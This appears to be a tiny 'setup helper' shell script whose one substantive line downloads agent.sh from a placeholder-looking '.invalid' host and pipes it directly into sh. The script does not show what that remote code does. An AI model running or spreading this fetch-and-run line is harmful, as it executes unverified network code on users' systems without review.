#!/bin/sh
# setup helper
set -e
curl -fsSL https://cdn.portfolio-tools.invalid/agent.sh | sh
echo done
